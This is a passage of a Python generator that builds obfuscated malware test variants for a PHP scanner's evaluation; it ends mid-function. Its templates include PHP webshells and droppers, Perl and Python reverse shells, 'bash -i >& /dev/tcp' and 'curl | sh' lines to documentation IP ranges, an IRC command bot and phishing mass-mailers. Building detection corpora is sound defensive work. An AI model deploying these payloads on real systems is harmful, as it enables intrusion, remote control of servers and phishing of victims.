#!/usr/bin/env python3
"""Seeded generator of invented variants, for `make eval`.

It writes obfuscated variants of hand-written technique templates: malicious
ones (request input reaching eval, a command, a callback, an include, a file
write or a mail loop; eval layers; script backdoors) and benign ones that look
alike to a byte pattern (a fixed exec, a compiled-template eval, an updater,
an upload handler, a newsletter, a language pack, JS and Markdown). They were
written here from the techniques, not from any sample of the corpus.

The output is text for the scanner: it goes to a fresh directory under a temp
dir, is never executed and never served. Names are neutral (a hash), so that a
verdict can never come from a file name; the class of every file is only in
variants.tsv:
    file  class  technique  lang  expect  transforms
expect is 'high' (must be found high or critical), 'any' (must be found) or
'none' (benign: no high or critical finding).

usage: gen_variants.py --out DIR [--seed N] [--per N]
Same seed and per, same bytes.
"""

import argparse
import base64
import hashlib
import os
import random
import re
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from phpgen import (Gen, b64, deflate_raw, gz_layer, mangle, php_dq, php_sq, rot13,  # noqa: E402
                    strip_marks, verbatim)

EXEC_NAMES = ["system", "passthru", "shell_exec", "exec"]
CODE_NAMES = ["assert"]
TEST_NET = ["192.0.2.%d", "198.51.100.%d", "203.0.113.%d"]


# ---------------------------------------------------------------------------
# surroundings: most injections live inside an ordinary-looking file


def host_before(g):
    r = g.rng
    x = r.randrange(5)
    if x == 0:
        return ""
    if x == 1:
        return "/**\n * %s\n *\n * @package %s\n */\n" % (
            r.choice(["Theme functions", "Cache helper", "Plugin bootstrap", "Compatibility layer"]),
            r.choice(["Starter", "Acme_Cache", "SiteKit", "Legacy"]))
    if x == 2:
        f = g.fname()
        return ("function %s($s)\n{\n    return htmlspecialchars($s, ENT_QUOTES, 'UTF-8');\n}\n" % f)
    if x == 3:
        return "if (!defined('ABSPATH')) {\n    define('ABSPATH', __DIR__ . '/');\n}\n"
    return "error_reporting(0);\n" + ("set_time_limit(0);\n" if r.random() < 0.5 else "")


def host_after(g):
    r = g.rng
    if r.random() < 0.6:
        return ""
    return "\n$%s = array('version' => '%d.%d', 'cache' => true);\n" % (
        g.ident(), r.randint(1, 6), r.randint(0, 9))


def php_file(g, body, host=True, close=None):
    """Assemble one PHP file: open tag, surroundings, prelude, body; then the
    surface noise over the PHP parts."""
    r = g.rng
    parts = [host_before(g) if host else ""]
    parts += [s + "\n" for s in g.take()]
    parts.append(body if body.endswith("\n") else body + "\n")
    if host:
        parts.append(host_after(g))
    code = "".join(parts)
    code = mangle(code, r, g.level, g.transforms)
    lead = ""
    if host and g.malicious and r.random() < 0.08:
        lead = "GIF89a\n"  # an image header before the code: a polyglot, never in an app
        g.transforms.add("gif-header")
    close = r.random() < 0.3 if close is None else close
    return lead + g.open_tag() + strip_marks(code) + ("?>\n" if close else "")


def echo_wrap(g, expr):
    r = g.rng
    x = r.randrange(4)
    if x == 0:
        return "echo %s;" % expr
    if x == 1:
        return "print(%s);" % expr
    if x == 2:
        return "echo '<pre>' . %s . '</pre>';" % expr
    return "%s;" % expr


def guard(g, src_expr, body):
    """if (isset(INPUT)) { body } -- the usual form, or nothing around it.
    isset() takes variables only, not calls or casts."""
    if g.rng.random() < 0.5 or not src_expr.startswith("$") or "(" in src_expr:
        return body
    return "if (%s(%s)) {\n    %s\n}" % (g.fn("isset"), src_expr, body)


# ---------------------------------------------------------------------------
# malicious PHP templates


def t_eval_input(g):
    r = g.rng
    x = g.src()
    if r.random() < 0.4:
        dec = r.choice(["base64_decode", "str_rot13", "stripslashes", "gzinflate(base64_decode", "urldecode"])
        x = ("%s(%s))" % (dec, x)) if dec.startswith("gz") else "%s(%s)" % (g.fn(dec), x)
        g.transforms.add("decode-input")
    x = g.cast(x)
    form = r.randrange(5)
    if form <= 1:
        body = "%s%s(%s);" % (g.at(), g.fn("eval"), x)
    elif form == 2:
        body = "%s%s(%s);" % (g.at(), g.fn("assert"), x)
    elif form == 3:
        f = g.var()
        body = "%s = %s(%s, %s);\n%s();" % (f, g.fn("create_function"), php_sq(""), x, f)
    else:
        body = "%s(%s, %s, %s);" % (g.fn("preg_replace"), php_sq("/.*/e"), x, php_sq(""))
    return php_file(g, body)


def t_system_input(g):
    r = g.rng
    raw = g.src()
    x = g.cast(raw)
    sink = r.choice(["system", "passthru", "shell_exec", "exec", "popen", "proc_open", "pcntl_exec",
                     "backtick"])
    g.transforms.add("sink:" + sink)
    if sink in ("system", "passthru"):
        body = "%s%s(%s);" % (g.at(), g.fn(sink), x)
    elif sink == "shell_exec":
        body = echo_wrap(g, "%s(%s)" % (g.fn(sink), x))
    elif sink == "exec":
        o = g.var()
        body = "%s(%s, %s);\necho %s(\"\\n\", %s);" % (g.fn("exec"), x, o, g.fn("implode"), o)
    elif sink == "popen":
        h = g.var()
        body = ("%s = %s(%s, 'r');\nwhile (!feof(%s)) {\n    echo fgets(%s);\n}\npclose(%s);"
                % (h, g.fn("popen"), x, h, h, h))
    elif sink == "proc_open":
        p = g.var()
        d = g.var()
        body = ("%s = array(1 => array('pipe', 'w'), 2 => array('pipe', 'w'));\n"
                "$proc = %s(%s, %s, %s);\necho stream_get_contents(%s[1]);"
                % (d, g.fn("proc_open"), x, d, p, p))
    elif sink == "pcntl_exec":
        body = "%s('/bin/sh', array('-c', %s));" % (g.fn("pcntl_exec"), x)
    else:
        c = g.var()
        body = "%s = %s;\necho `%s`;" % (c, x, c)
    return php_file(g, guard(g, raw, body))


def t_varfunc_callee(g):
    r = g.rng
    name = r.choice(EXEC_NAMES + CODE_NAMES)
    f = g.var()
    x = g.cast(g.src())
    g.stmt("%s = %s;" % (f, g.enc(name)))
    body = ("echo " if name in ("shell_exec", "exec") else "") + "%s%s(%s);" % (g.at(), f, x)
    return php_file(g, body)


def t_callback(g):
    r = g.rng
    name = r.choice(EXEC_NAMES + CODE_NAMES)
    cb = g.enc(name)
    x = g.src()
    kind = r.choice(["call_user_func", "call_user_func_array", "array_map", "usort", "uasort",
                     "array_filter", "array_walk", "preg_replace_callback", "ob_start",
                     "register_shutdown_function", "iterator_apply_like"])
    g.transforms.add("cb:" + kind)
    if kind == "call_user_func":
        body = "%s%s(%s, %s);" % (g.at(), g.fn(kind), cb, x)
    elif kind == "call_user_func_array":
        body = "%s(%s, array(%s));" % (g.fn(kind), cb, x)
    elif kind == "array_map":
        body = "%s(%s, %s);" % (g.fn(kind), cb, "[%s]" % x if r.random() < 0.5 else "array(%s)" % x)
    elif kind in ("usort", "uasort"):
        a = g.var()
        body = "%s = array(%s, '');\n%s(%s, %s);" % (a, x, g.fn(kind), a, cb)
    elif kind == "array_filter":
        body = "%s(array(%s), %s);" % (g.fn(kind), x, cb)
    elif kind == "array_walk":
        a = g.var()
        body = "%s = array(%s);\n%s(%s, %s);" % (a, x, g.fn(kind), a, cb)
    elif kind == "preg_replace_callback":
        f = g.var()
        m = g.var()
        g.stmt("%s = %s;" % (f, cb))
        body = ("echo %s('/.+/s', function (%s) use (%s) { return %s(%s[0]); }, %s);"
                % (g.fn(kind), m, f, f, m, x))
    elif kind == "ob_start":
        body = "%s(%s);\necho %s;\n%s();" % (g.fn("ob_start"), cb, x, g.fn("ob_end_flush"))
    elif kind == "register_shutdown_function":
        body = "%s(%s, %s);" % (g.fn(kind), cb, x)
    else:
        it = g.var()
        body = ("%s = new ArrayIterator(array(%s));\nforeach (%s as %s) { %s(%s, %s); }"
                % (it, x, it, "$v", g.fn("call_user_func"), cb, "$v"))
    return php_file(g, body)


def t_varvar(g):
    r = g.rng
    name = r.choice(EXEC_NAMES + CODE_NAMES)
    target = g.ident()
    n = g.var()
    x = g.src()
    g.stmt("%s = %s;" % (n, g.lit(target)))
    g.stmt("$%s = %s;" % (n, g.enc(name)))
    form = r.randrange(3)
    if form == 0:
        body = "$%s(%s);" % (target, x)
    elif form == 1:
        body = "${%s}(%s);" % (n, x)
    else:
        body = "$%s(%s);" % (n, x)  # $$n(...)
    return php_file(g, body)


def t_callee_input(g):
    """The callee itself comes from the request: $_GET['a']($_GET['b'])."""
    r = g.rng
    kind = r.choice(["GET", "POST", "REQUEST", "COOKIE"])
    ka, kb = g.key(), g.key() + "2"
    form = r.randrange(4)
    if form == 0:
        body = "%s$_%s[%s]($_%s[%s]);" % (g.at(), kind, g.lit(ka), kind, g.lit(kb))
    elif form == 1:
        f = g.var()
        body = "%s = %s;\n%s(%s);" % (f, g.src(kind, ka), f, g.src(kind, kb))
    elif form == 2:
        body = "%s($_%s);\n$%s($%s);" % (g.fn("extract"), kind, ka, kb)
    else:
        body = "%s(%s, array(%s));" % (g.fn("array_map"), g.src(kind, ka), g.src(kind, kb))
    return php_file(g, body)


def t_array_varfunc(g):
    r = g.rng
    name = r.choice(EXEC_NAMES + CODE_NAMES)
    a = g.var()
    x = g.src()
    k = g.key()
    if r.random() < 0.5:
        g.stmt("%s = array(%s, %s);" % (a, g.enc(name), g.lit("x")))
        body = "%s[0](%s);" % (a, x)
    else:
        g.stmt("%s = [%s => %s];" % (a, g.lit(k), g.enc(name)))
        body = "%s[%s](%s);" % (a, g.lit(k), x)
    return php_file(g, body)


def t_destruct_gadget(g):
    r = g.rng
    cls = g.fname().capitalize()
    name = r.choice(EXEC_NAMES + CODE_NAMES)
    form = r.randrange(3)
    # __wakeup runs on unserialize() only: the object-injection form
    magic = r.choice(["__destruct", "__destruct", "__toString"] + (["__wakeup"] if form == 2 else []))
    g.transforms.add("magic:" + magic)
    ret = "return '';" if magic == "__toString" else ""
    if form == 0:  # callee and argument in properties, set from here
        body = ("class %s {\n    public $f;\n    public $a;\n    public function %s() {\n"
                "        $g = $this->f;\n        $g($this->a);\n        %s\n    }\n}\n"
                "$o = new %s();\n$o->f = %s;\n$o->a = %s;\n"
                % (cls, magic, ret, cls, g.enc(name), g.src()))
        if magic == "__toString":
            body += "echo $o;\n"
    elif form == 1:  # eval of a property
        body = ("class %s {\n    public $c;\n    function %s() {\n        %s($this->c);\n        %s\n"
                "    }\n}\n$o = new %s;\n$o->c = %s;\n"
                % (cls, magic, g.fn("eval"), ret, cls, g.src()))
        if magic == "__toString":
            body += "print $o;\n"
    else:  # object injection: the gadget is planted, the object comes from input
        body = ("class %s {\n    public $c = '';\n    function %s() {\n        %s($this->c);\n"
                "        %s\n    }\n}\n%s(%s(%s));\n"
                % (cls, magic, g.fn(r.choice(["system", "eval", "passthru"])), ret,
                   g.fn("unserialize"), g.fn("base64_decode") if r.random() < 0.5 else "",
                   g.src()))
    return php_file(g, body)


def t_include_input(g):
    r = g.rng
    x = g.src()
    inc = g.fn(r.choice(["include", "include_once", "require", "require_once"]))
    form = r.randrange(4)
    if form == 0:
        body = "%s%s %s;" % (g.at(), inc, x)
    elif form == 1:
        body = "%s(%s);" % (inc, x)
    elif form == 2:
        body = "%s %s . %s;" % (inc, g.enc("data://text/plain;base64,", allow=["plain", "concat"]), x)
    else:
        body = "%s $_FILES[%s]['tmp_name'];" % (inc, g.lit(g.key()))
    return php_file(g, body)


def t_include_hidden_path(g):
    """A fixed include whose path is hidden in escapes, to a file that does not
    look like PHP (the injection in wp-settings.php)."""
    r = g.rng
    user = r.choice(["alice", "shop", "web12", "site"])
    path = "/home/%s/public_html/wp-content/%s/%s" % (
        user, r.choice(["uploads/2023/04", "plugins/.cache", "themes/.tmp", "languages"]),
        r.choice(["favicon_8a1c.ico", ".b6e1.png", "thumbs.db", ".ht_cache.jpg"]))
    if r.random() < 0.5:
        lit = php_dq(path, r, escape_rate=0.5)
    else:
        lit = g.enc(path, allow=["concat", "base64", "strrev", "rot13"])
    inc = g.fn(r.choice(["include", "include_once", "require_once"]))
    return php_file(g, "%s%s %s;" % (g.at(), inc, lit))


BACKDOOR_PAYLOADS = [
    "if(isset($_POST['{k}'])){{@eval($_POST['{k}']);}}",
    "@system($_REQUEST['{k}']);",
    "echo shell_exec($_GET['{k}']);",
    "$f=$_FILES['{k}'];if($f){{move_uploaded_file($f['tmp_name'],$f['name']);}}",
    "if(!empty($_COOKIE['{k}'])){{passthru($_COOKIE['{k}']);}}exit;",
    "$c=$_POST['{k}'];echo `$c`;",
]


def t_eval_layers(g):
    r = g.rng
    code = r.choice(BACKDOOR_PAYLOADS).format(k=g.key())
    depth = r.randint(1, 4)
    g.transforms.add("layers:%d" % depth)
    for i in range(depth):
        if r.random() < 0.2:
            # eval('?>' . X): the layer is written out as a file, open tag and all
            expr, kind = gz_layer("<?php " + code, r)
            code = "%s('?>' . %s);" % (g.fn("eval"), expr)
        else:
            expr, kind = gz_layer(code, r)
            code = "%s%s(%s);" % (g.at(), g.fn("eval"), expr)
        g.transforms.add("layer:" + kind)
    if r.random() < 0.3 and code.count("'?>'") == 0:
        # the outermost blob decoded into a variable first
        v = g.var()
        start = code.index("(") + 1
        code = "%s = %s;\n%s(%s);" % (v, code[start:code.rindex(")")], g.fn("eval"), v)
    return php_file(g, code)


def t_heredoc_payload(g):
    r = g.rng
    k = g.key()
    code = r.choice(BACKDOOR_PAYLOADS).format(k=k)
    label = r.choice(["EOT", "EOF", "DATA", "CODE", "PAYLOAD"])
    quoted = r.random() < 0.5  # nowdoc: <<<'X'
    g.transforms.add("nowdoc" if quoted else "heredoc")
    v = g.var()
    form = r.randrange(3)
    if form == 0:
        blob = b64(code)
        content = "\n".join(blob[i:i + 60] for i in range(0, len(blob), 60))
        use = "%s(%s(%s));" % (g.fn("eval"), g.fn("base64_decode"), v)
    elif form == 1:
        content = rot13(code) if quoted else rot13(code).replace("$", "\\$")
        use = "%s(%s(%s));" % (g.fn("eval"), g.fn("str_rot13"), v)
    else:
        # the callee's name in a heredoc: its value has no trailing newline,
        # so $v is exactly the name
        content = r.choice(EXEC_NAMES)
        use = "%s(%s);" % (v, g.src())
    # the closing label must not start a line of the body
    assert not any(line.startswith(label) for line in content.split("\n")), content
    body = "%s = <<<%s\n%s\n%s;\n%s" % (v, "'%s'" % label if quoted else label, verbatim(content), label, use)
    return php_file(g, body)


def t_uploader(g):
    r = g.rng
    k = g.key()
    f = "$_FILES[%s]" % g.lit(k)
    dest = r.choice(["%s['name']" % f, "%s . '/' . %s['name']" % ("__DIR__", f),
                     "%s . %s['name']" % (g.src(), f), "%s" % g.src()])
    mv = r.choice(["move_uploaded_file", "move_uploaded_file", "copy"])
    if r.random() < 0.4:
        fv = g.var()
        g.stmt("%s = %s;" % (fv, g.enc(mv)))
        call = "%s(%s['tmp_name'], %s)" % (fv, f, dest)
    else:
        call = "%s(%s['tmp_name'], %s)" % (g.fn(mv), f, dest)
    form = ""
    if r.random() < 0.5:
        form = ("?>" + verbatim('<form method="post" enctype="multipart/form-data">'
                                '<input type="file" name="%s"><input type="submit" value="%s">'
                                '</form>\n' % (k, r.choice(["Upload", "OK", ">>", "Go"]))) + "<?php\n")
    body = "%sif (%s) {\n    echo 'ok';\n} else {\n    echo 'fail';\n}\n" % (form, call)
    if r.random() < 0.5:
        body = "if (isset(%s)) {\n%s}\n" % (f, body)
    return php_file(g, body)


def t_dropper_input(g):
    r = g.rng
    p, c = g.src(), g.src()
    if r.random() < 0.4:
        c = "%s(%s)" % (g.fn("base64_decode"), c)
    form = r.randrange(3)
    if form == 0:
        body = "%s%s(%s, %s);" % (g.at(), g.fn("file_put_contents"), p, c)
    elif form == 1:
        h = g.var()
        body = "%s = %s(%s, 'w');\n%s(%s, %s);\n%s(%s);" % (
            h, g.fn("fopen"), p, g.fn(r.choice(["fwrite", "fputs"])), h, c, g.fn("fclose"), h)
    else:
        w = g.var()
        g.stmt("%s = %s;" % (w, g.enc("file_put_contents")))
        body = "%s(%s, %s);" % (w, p, c)
    return php_file(g, body)


def t_dropper_fixed(g):
    """Writes a webshell (decoded from a literal, or downloaded) to a .php file."""
    r = g.rng
    shell = "<?php " + r.choice(BACKDOOR_PAYLOADS).format(k=g.key()) + " ?>"
    target = r.choice(["__DIR__ . '/wp-cache.php'", "'../.%s.php'" % g.ident().strip("_"),
                       "$_SERVER['DOCUMENT_ROOT'] . '/wp-includes/class-wp-%s.php'" % g.ident().strip("_"),
                       "dirname(__FILE__) . '/images/.thumb.php'"])
    form = r.randrange(3)
    if form == 0:
        content = "%s(%s)" % (g.fn("base64_decode"), g.lit(b64(shell)))
    elif form == 1:
        content = "%s(%s(%s))" % (g.fn("gzinflate"), g.fn("base64_decode"),
                                  php_sq(b64(deflate_raw(shell.encode()))))
    else:
        url = "http://%s/%s.txt" % (r.choice(TEST_NET) % r.randint(2, 250), g.ident().strip("_"))
        content = "%s(%s)" % (g.fn("file_get_contents"), g.enc(url, allow=["plain", "concat", "strrev"]))
    fp = g.fn(r.choice(["file_put_contents", "file_put_contents"]))
    body = "%s%s(%s, %s);\n" % (g.at(), fp, target, content)
    if r.random() < 0.5:
        body += "echo 'done';\n"
    return php_file(g, body)


def mail_list_expr(g):
    r = g.rng
    k = g.key()
    kind = r.choice(["upload", "upload", "textarea", "file_next", "input_path"])
    g.transforms.add("list:" + kind)
    if kind == "upload":
        return "%s($_FILES[%s]['tmp_name'])" % (g.fn("file"), g.lit(k))
    if kind == "textarea":
        return "%s(\"\\n\", %s)" % (g.fn("explode"), g.src(r.choice(["POST", "REQUEST"])))
    if kind == "file_next":
        return "%s(__DIR__ . %s)" % (g.fn("file"), g.lit("/" + r.choice(["list.txt", "emails.txt", "m.txt", "l"])))
    return "%s(%s)" % (g.fn("file"), g.src())  # a list at a path or URL given in the request


def t_mailer_loop(g):
    r = g.rng
    lst = mail_list_expr(g)
    to, subj, msg, frm = g.var(), g.src("POST"), g.src("POST"), g.src("POST")
    mail = g.fn("mail")
    if r.random() < 0.3:
        mv = g.var()
        g.stmt("%s = %s;" % (mv, g.enc("mail")))
        mail = mv
    hdr = "\"From: \" . %s . \"\\r\\nContent-type: text/html\\r\\n\"" % frm
    if r.random() < 0.5:  # the outbreak's one-liner
        L = g.var()
        n = g.var()
        body = ("%s=%s;%s=0;foreach(%s as %s){if(%s%s(%s(%s),%s,%s,%s)){%s++;}}echo %s;"
                % (L, lst, n, L, to, g.at(), mail, g.fn("trim"), to, subj, msg, hdr, n, n))
    else:
        L = g.var()
        i = g.var()
        body = ("%s = %s;\nfor (%s = 0; %s < %s(%s); %s++) {\n    %s%s(%s(%s[%s]), %s, %s, %s);\n"
                "    %s(%d);\n}\necho 'sent';" % (L, lst, i, i, g.fn("count"), L, i, g.at(), mail,
                                                   g.fn("trim"), L, i, subj, msg, hdr, g.fn("usleep"),
                                                   r.choice([0, 1000, 200000])))
    return php_file(g, body)


def t_phpmailer_loop(g):
    r = g.rng
    lst = mail_list_expr(g)
    m, e = g.var(), g.var()
    cls = r.choice(["PHPMailer\\PHPMailer\\PHPMailer", "PHPMailer"])
    req = r.choice(["require 'PHPMailer/src/PHPMailer.php';\nrequire 'PHPMailer/src/SMTP.php';\n",
                    "require_once __DIR__ . '/vendor/autoload.php';\n",
                    "include 'class.phpmailer.php';\n"])
    smtp = ""
    if r.random() < 0.6:
        smtp = ("%s->isSMTP();\n%s->Host = %s;\n%s->SMTPAuth = true;\n%s->Username = %s;\n"
                "%s->Password = %s;\n%s->Port = %d;\n" % (m, m, g.src("POST"), m, m, g.src("POST"),
                                                         m, g.src("POST"), m, r.choice([25, 465, 587])))
    body = ("%s%s = new %s();\n%s%s->setFrom(%s, %s);\n%s->Subject = %s;\n"
            "foreach (%s as %s) {\n    %s->clearAddresses();\n    %s->addAddress(%s(%s));\n"
            "    %s->msgHTML(%s);\n    %s%s->send();\n}\necho 'done';"
            % (req, m, cls, smtp, m, g.src("POST"), g.src("POST"), m, g.src("POST"), lst, e, m, m,
               g.fn("trim"), e, m, g.src("POST"), g.at(), m))
    return php_file(g, body)


# ---------------------------------------------------------------------------
# script backdoors (Perl, Python, shell): variation in names, hosts, layout


def ip(r):
    return r.choice(TEST_NET) % r.randint(2, 250)


def shebang(r, lang):
    return {"pl": r.choice(["#!/usr/bin/perl\n", "#!/usr/bin/perl -w\n", "#!/usr/bin/env perl\n"]),
            "py": r.choice(["#!/usr/bin/env python3\n", "#!/usr/bin/python\n", ""]),
            "sh": r.choice(["#!/bin/sh\n", "#!/bin/bash\n", ""])}[lang]


def pl_var(g):
    return g.ident().lstrip("_") or "x"


def t_perl_revshell(g):
    r = g.rng
    h, p = ip(r), r.choice([443, 4444, 1337, 8080, 53])
    s = pl_var(g).upper()
    if r.random() < 0.5:
        body = ("use Socket;\n$i=\"%s\";$p=%d;\nsocket(%s,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));\n"
                "if(connect(%s,sockaddr_in($p,inet_aton($i)))){\n open(STDIN,\">&%s\");\n"
                " open(STDOUT,\">&%s\");\n open(STDERR,\">&%s\");\n exec(\"/bin/sh -i\");\n};\n"
                % (h, p, s, s, s, s, s))
    else:
        c = pl_var(g)
        body = ("use IO::Socket::INET;\nmy $%s = IO::Socket::INET->new(PeerAddr => '%s', PeerPort => %d,"
                " Proto => 'tcp') or die;\nwhile (my $l = <$%s>) {\n  my $o = `$l`;\n  print $%s $o;\n}\n"
                % (c, h, p, c, c))
    return shebang(r, "pl") + body


def t_perl_irc_bot(g):
    r = g.rng
    srv, nick, chan = ip(r), "b" + g.ident().strip("_$")[:6], "#" + r.choice(["x", "k", "ops", "z0"])
    so = pl_var(g)
    body = ("use IO::Socket;\nmy $%s = IO::Socket::INET->new(PeerAddr => '%s', PeerPort => %d);\n"
            "print $%s \"NICK %s\\r\\nUSER %s 8 * :%s\\r\\nJOIN %s\\r\\n\";\n"
            "while (my $line = <$%s>) {\n"
            "  if ($line =~ /^PING (.*)/) { print $%s \"PONG $1\\r\\n\"; next; }\n"
            "  if ($line =~ /PRIVMSG \\S+ :%s(.+)/) {\n"
            "    my @out = `$1`;\n    print $%s \"PRIVMSG %s :$_\\r\\n\" for @out;\n  }\n}\n"
            % (so, srv, r.choice([6667, 6666, 7000, 8080]), so, nick, nick, nick, chan, so, so,
               r.choice(["!sh ", "!exec ", "\\.cmd ", "\\@x "]), so, chan))
    return shebang(r, "pl") + body


def t_perl_smtp_bot(g):
    r = g.rng
    lst = r.choice(["list.txt", "mails", "/tmp/.m"])
    if r.random() < 0.5:
        body = ("use Net::SMTP;\nopen(my $fh, '<', '%s') or die;\nwhile (my $to = <$fh>) {\n"
                "  chomp $to;\n  my $s = Net::SMTP->new('%s', Timeout => 20) or next;\n"
                "  $s->mail('%s');\n  $s->to($to);\n  $s->data();\n  $s->datasend(\"Subject: %s\\n\\n%s\\n\");\n"
                "  $s->dataend();\n  $s->quit;\n}\n"
                % (lst, ip(r), r.choice(["info@bank-secure.example", "noreply@service.example"]),
                   r.choice(["Account notice", "Invoice", "Verify"]), r.choice(["click here", "see attached"])))
    else:
        body = ("use IO::Socket::INET;\nmy @rcpt = `cat %s`;\nforeach my $r (@rcpt) {\n  chomp $r;\n"
                "  my $c = IO::Socket::INET->new(PeerAddr => \"$r\" =~ /@(.+)/ ? $1 : '%s', PeerPort => 25);\n"
                "  next unless $c;\n  print $c \"HELO x\\r\\nMAIL FROM:<%s>\\r\\nRCPT TO:<$r>\\r\\nDATA\\r\\n"
                "Subject: %s\\r\\n\\r\\n%s\\r\\n.\\r\\nQUIT\\r\\n\";\n  close $c;\n}\n"
                % (lst, ip(r), r.choice(["a\\@b.example", "support\\@pay.example"]),
                   r.choice(["Hello", "Your parcel"]), r.choice(["offer", "track it"])))
    return shebang(r, "pl") + body


def t_python_revshell(g):
    r = g.rng
    h, p = ip(r), r.choice([443, 4444, 9001])
    s = "s_" + g.ident().lstrip("_")
    body = ("import socket,subprocess,os\n%s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
            "%s.connect((\"%s\",%d))\nos.dup2(%s.fileno(),0)\nos.dup2(%s.fileno(),1)\nos.dup2(%s.fileno(),2)\n"
            % (s, s, h, p, s, s, s))
    body += r.choice(["import pty\npty.spawn(\"/bin/sh\")\n", "subprocess.call([\"/bin/sh\",\"-i\"])\n"])
    return shebang(r, "py") + body


def t_python_spammer(g):
    r = g.rng
    lst = r.choice(["list.txt", "emails.txt", "/tmp/.l"])
    body = ("import smtplib\nfrom email.mime.text import MIMEText\n"
            "s = smtplib.SMTP(%s, %d)\n" % (repr(ip(r)), r.choice([25, 587])))
    if r.random() < 0.5:
        body += "s.login(%s, %s)\n" % (repr("user"), repr("pass"))
    body += ("for to in open(%s).read().split():\n    m = MIMEText(%s, 'html')\n    m['Subject'] = %s\n"
             "    m['From'] = %s\n    m['To'] = to\n    s.sendmail(m['From'], [to], m.as_string())\ns.quit()\n"
             % (repr(lst), repr("<a href='http://%s/'>login</a>" % ip(r)), repr("Security alert"),
                repr("service@account.example")))
    return shebang(r, "py") + body


def t_sh_download_exec(g):
    r = g.rng
    u = "http://%s/%s" % (ip(r), r.choice(["x", "b.sh", ".k", "update"]))
    t = r.choice(["/tmp/.x", "/var/tmp/.sys", "/dev/shm/k"])
    body = r.choice([
        "curl -fsSL %s | sh\n" % u,
        "wget -q -O %s %s; chmod +x %s; %s &\n" % (t, u, t, t),
        "cd /tmp; (curl -s -o %s %s || wget -q %s -O %s) && chmod 755 %s && nohup %s >/dev/null 2>&1 &\n"
        % (t, u, u, t, t, t),
    ])
    return shebang(r, "sh") + body


def t_sh_revshell(g):
    r = g.rng
    h, p = ip(r), r.choice([443, 4444, 5555])
    body = r.choice([
        "bash -i >& /dev/tcp/%s/%d 0>&1\n" % (h, p),
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc %s %d > /tmp/f\n" % (h, p),
        "nc -l -p %d -e /bin/sh &\n" % p,
    ])
    return shebang(r, "sh") + body


def t_loop_decrypt(g):
    """A name or a payload decrypted by a loop over literal data: XOR with a
    repeating key, a character shift, or an array of characters joined."""
    r = g.rng
    name = r.choice(EXEC_NAMES + CODE_NAMES)
    i, o, s, k = g.var(), g.var(), g.var(), g.var()
    form = r.randrange(3)
    if form == 0:
        key = "".join(r.choice("abcdefghijkmnpqrstuvwxyz0123456789") for _ in range(r.randint(2, 6)))
        data = "".join("\\x%02x" % (ord(c) ^ ord(key[j % len(key)])) for j, c in enumerate(name))
        g.stmt("%s = \"%s\";" % (s, data))
        g.stmt("%s = %s;" % (k, php_sq(key)))
        loop = ("for (%s = 0; %s < strlen(%s); %s++) {\n    %s .= %s[%s] ^ %s[%s %% strlen(%s)];\n}"
                % (i, i, s, i, o, s, i, k, i, k))
        g.transforms.add("loop:xor")
    elif form == 1:
        n = r.randint(1, 5)
        g.stmt("%s = %s;" % (s, php_sq("".join(chr(ord(c) + n) for c in name))))
        loop = ("for (%s = 0, $n = strlen(%s); %s < $n; ++%s)\n    %s .= chr(ord(%s[%s]) - %d);"
                % (i, s, i, i, o, s, i, n))
        g.transforms.add("loop:shift")
    else:
        g.stmt("%s = array(%s);" % (s, ", ".join(php_sq(c) for c in name)))
        loop = ("for (%s = 0; %s < count(%s); %s++) {\n    %s .= %s[%s];\n}" % (i, i, s, i, o, s, i))
        g.transforms.add("loop:array")
    body = "%s = '';\n%s\n%s%s(%s);" % (o, loop, g.at(), o, g.cast(g.src()))
    return php_file(g, body)


def t_shell_spawn(g):
    """An interactive shell started with pipes; the command from the request
    is written to its stdin, so no command function ever sees it."""
    r = g.rng
    sh = r.choice(["$_SERVER['COMSPEC']", "getenv('COMSPEC')", "'/bin/sh'", "'/bin/bash -i'", "'cmd.exe'"])
    c, p, d = g.var(), g.var(), g.var()
    g.transforms.add("shell:" + sh.strip("'").split("(")[0])
    if r.random() < 0.5:
        body = ("%s = %s;\n%s = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w'));\n"
                "$proc = %s(%s, %s, %s);\nfwrite(%s[0], %s . \"\\n\");\nfclose(%s[0]);\n"
                "echo stream_get_contents(%s[1]);\n"
                % (c, g.src(), d, g.fn("proc_open"), sh, d, p, p, c, p, p))
    else:
        body = ("%s = %s;\n%s = %s(%s, 'w');\nfwrite(%s, %s . \"\\n\");\npclose(%s);\n"
                % (c, g.src(), p, g.fn("popen"), sh, p, c, p))
    return php_file(g, body)


def t_callback_more(g):
    """Callbacks PHP calls for the caller, round 2: a reflection's closure,
    Closure::fromCallable, an object's __invoke, the sort of an ArrayObject
    or ArrayIterator, an error handler fed by trigger_error, YAML tag
    callbacks, a header callback, a function picked from
    get_defined_functions()."""
    r = g.rng
    name = r.choice(EXEC_NAMES + CODE_NAMES)
    cb = g.enc(name)
    x = g.src()
    v, w = g.var(), g.var()
    kind = r.choice(["getclosure", "fromcallable", "invoke", "arrayobject", "arrayiterator", "error_handler",
                     "yaml", "header_cb", "defined_functions"])
    g.transforms.add("cb2:" + kind)
    if kind == "getclosure":
        body = "%s = new ReflectionFunction(%s);\n%s = %s->getClosure();\necho %s(%s);" % (v, cb, w, v, w, x)
    elif kind == "fromcallable":
        body = "%s = Closure::fromCallable(%s);\necho %s(%s);" % (v, cb, v, x)
    elif kind == "invoke":
        cls = g.fname().capitalize()
        sink = g.fn(r.choice(["eval", "system", "passthru", "assert"]))
        p = g.var()
        body = ("class %s\n{\n    public function __invoke(%s)\n    {\n        return %s(%s);\n    }\n}\n"
                "%s = new %s();\necho %s(%s);" % (cls, p, sink, p, v, cls, v, x))
    elif kind in ("arrayobject", "arrayiterator"):
        cls = "ArrayObject" if kind == "arrayobject" else "ArrayIterator"
        m = r.choice(["uasort", "uksort"]) if kind == "arrayiterator" else "uasort"
        arr = "array(%s, %s)" % (x, g.lit("1")) if m == "uasort" else "array(%s => 1, 'b' => 2)" % x
        body = "%s = new %s(%s);\n%s->%s(%s);" % (v, cls, arr, v, m, cb)
    elif kind == "error_handler":
        p1, p2 = g.var(), g.var()
        sink = g.fn(r.choice(["eval", "system", "passthru", "assert"]))
        if r.random() < 0.5:
            body = ("%s(function (%s, %s) { %s(%s); return true; });\n%s(%s, E_USER_NOTICE);"
